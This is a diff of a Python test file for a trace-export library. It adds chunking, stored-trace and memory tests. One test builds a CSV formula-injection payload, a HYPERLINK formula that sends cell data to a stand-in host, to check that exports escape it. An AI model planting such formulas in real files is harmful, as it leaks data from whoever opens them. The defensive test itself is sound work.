@@ -7,6 +7,8 @@ import json
 import re
 import stat
 import struct
+import tracemalloc
+from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
@@ -14,11 +16,13 @@ import pandas as pd
 import pytest
 from pyarrow import parquet
 
+from ppmtf_jax.data.stored_traces import StoredTraces, open_traces, save_in_parts
 from ppmtf_jax.errors import InputError
 from ppmtf_jax.exports import layers
 from ppmtf_jax.exports.layers import Layer, population_layer, trace_layer
 from ppmtf_jax.exports.registry import EXPORT_FORMATS, ExportFormat, write_layer
-from tests.exports.examples import PLACES, ROWS, by_hand
+from tests.exports.examples import GRID, PLACES, ROWS, by_hand
+from tests.support import places_in_line, random_traces
 
 TIMES = [f"2024-01-0{1 + (22 + i) // 24}T{(22 + i) % 24:02d}:00:00+12:00" for _, _, i, _ in ROWS]
 
@@ -31,6 +35,12 @@ def written(folder: Path, name: str, layer: Layer | None = None, **how: bool) ->
     path = folder / f"made{EXPORT_FORMATS[name].suffixes[0]}"
     write_layer(layer or trace_layer(by_hand()), path, name, **how)
     return path
+
+
+def with_columns(layer: Layer, **columns: object) -> Layer:
+    """A layer of one piece with other columns."""
+    (piece,) = layer.pieces()
+    return replace(layer, pieces=lambda: iter([piece._replace(rows=piece.rows.assign(**columns))]))
 
 
 def as_json(path: Path) -> dict:
@@ -67,9 +77,8 @@ def test_geojson_of_a_population(tmp_path):
 
 
 def test_numbers_that_are_missing_are_null(tmp_path):
-    layer = trace_layer(by_hand())
-    rows = layer.rows.assign(share=[np.nan, 1e-9, 0.1, 2, 3, 4, 1e22])
-    features = as_json(written(tmp_path, "geojson", Layer(rows, {}, layer.trace_of_row, 60)))["features"]
+    layer = with_columns(trace_layer(by_hand()), share=[np.nan, 1e-9, 0.1, 2, 3, 4, 1e22])
+    features = as_json(written(tmp_path, "geojson", layer))["features"]
     assert [each["properties"]["share"] for each in features] == [None, 1e-9, 0.1, 2, 3, 4, 1e22]
 
 
@@ -84,11 +93,10 @@ def test_csv(tmp_path):
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
 def test_no_text_of_a_csv_is_run_by_a_spreadsheet(tmp_path, begin):
     """Ids and categories come from others: whoever opens the file would run what they wrote."""
-    layer = trace_layer(by_hand())
     text = f'{begin}HYPERLINK("http://a.example/?"&A1,"x")'
-    rows = layer.rows.assign(user=text, place="a=1", category=["", None, text, "b", "c", "d", "e"])
-    rows["kind"] = pd.Categorical(rows["user"])
-    with written(tmp_path, "csv", Layer(rows, {}, layer.trace_of_row, 60)).open(newline="") as file:
+    columns = {"user": text, "place": "a=1", "category": ["", None, text, "b", "c", "d", "e"]}
+    layer = with_columns(trace_layer(by_hand()), **columns, kind=pd.Categorical([text] * len(ROWS)))
+    with written(tmp_path, "csv", layer).open(newline="") as file:
         table = list(csv.DictReader(file))
     assert {row[name] for row in table for name in ("user", "kind")} == {f"'{text}"}
     assert {row["place"] for row in table} == {"a=1"}
@@ -163,11 +171,60 @@ def test_kepler_trips(tmp_path):
     assert lines[1][0][0] == -179.5
 
 
+def content(path: Path) -> object:
+    """What is in a file. The row groups of a Parquet file depend on the pieces; its table does not."""
+    return parquet.read_table(path) if path.suffix == ".parquet" else path.read_bytes()
+
+
 @pytest.mark.parametrize("name", list(EXPORT_FORMATS))
 def test_pieces_make_the_same_file(tmp_path, monkeypatch, name):
-    whole = written(tmp_path, name).read_bytes()
+    """The first piece of GeoParquet has no category, so that the type of this column is not known from it."""
+    category = np.array([None, 'the "old" café', None, "home"], object)
+    traces = replace(by_hand(), places=replace(PLACES, category=category))
+    whole = content(written(tmp_path, name, trace_layer(traces)))
     monkeypatch.setattr(layers, "ROWS_AT_A_TIME", 2)
-    assert written(tmp_path, name, overwrite=True).read_bytes() == whole
+    assert content(written(tmp_path, name, trace_layer(traces), overwrite=True)) == whole
+
+
+@pytest.fixture
+def small_blocks(monkeypatch):
+    """Blocks of four users, row groups of 30 events, and pieces of 20 rows."""
+    for module in ("traces", "stored_traces"):
+        monkeypatch.setattr(f"ppmtf_jax.data.{module}.BLOCK_USERS", 4)
+    monkeypatch.setattr("ppmtf_jax.data.events.PIECE_EVENTS", 30)
+    monkeypatch.setattr(layers, "ROWS_AT_A_TIME", 20)
+
+
+@pytest.mark.parametrize("name", list(EXPORT_FORMATS))
+@pytest.mark.usefixtures("small_blocks")
+def test_parts_of_the_traces_make_the_same_file(tmp_path, name):
+    traces = random_traces(0, range(23), places_in_line(6), GRID, n_traces=2, keep=0.7)
+    files = [written(tmp_path, name, trace_layer(traces))]
+    for n_parts in (1, 3, 7):
+        folder = tmp_path / f"{n_parts}"
+        save_in_parts(map(traces.select_users, np.array_split(np.arange(23), n_parts)), folder / "set")
+        stored = open_traces(folder / "set")
+        assert isinstance(stored, StoredTraces)
+        files += [written(folder, name, trace_layer(stored))]
+    assert len({file.read_bytes() for file in files}) == 1
+
+
+@pytest.mark.parametrize("bug", [False, True], ids=["", "planted bug"])
+@pytest.mark.usefixtures("small_blocks")
+def test_memory_does_not_grow_with_users(tmp_path, bug):
+    """1,600 users in place of 100 have 7,500 more rows, of 7 columns of 8 bytes. The bug keeps all pieces."""
+    peaks = []
+    for n_users in (100, 1600):
+        random_traces(0, range(n_users), places_in_line(6), GRID).save(tmp_path / str(n_users))
+        tracemalloc.start()
+        layer = trace_layer(open_traces(tmp_path / str(n_users)))
+        if bug:
+            kept = list(layer.pieces())
+            layer = replace(layer, pieces=kept.__iter__)
+        written(tmp_path, "csv", layer, overwrite=True)
+        peaks.append(tracemalloc.get_traced_memory()[1])
+        tracemalloc.stop()
+    assert (peaks[1] - peaks[0] > 7500 * 7 * 8 / 2) == bug
 
 
 @pytest.mark.parametrize("name", list(EXPORT_FORMATS))
@@ -224,7 +281,7 @@ def test_a_population_does_not_move(tmp_path):
 
 def test_a_format_is_added_by_registering_it(tmp_path):
     def write(layer: Layer, path: Path) -> None:
-        path.write_text(f"{len(layer.rows)} rows")
+        path.write_text(f"{layer.n_rows} rows")
 
     EXPORT_FORMATS.register(ExportFormat("count", "How many.", (".count",), write, mark=b" rows"))
     try:
@@ -237,6 +294,5 @@ def test_a_format_is_added_by_registering_it(tmp_path):
 @pytest.mark.parametrize("ids", [np.array([2**64 - 1], np.uint64), ["日本"], ['"a"\\'], [True], [-7]], ids=str)
 def test_ids_of_any_type_are_written(tmp_path, ids):
     layer = trace_layer(by_hand().select_traces(np.array([False, True, False])))
-    layer = Layer(layer.rows.assign(user=ids), layer.about, layer.trace_of_row, layer.step_s)
-    (feature,) = as_json(written(tmp_path, "kepler-trips", layer))["features"]
+    (feature,) = as_json(written(tmp_path, "kepler-trips", with_columns(layer, user=ids)))["features"]
     assert feature["properties"]["user"] == ids[0]
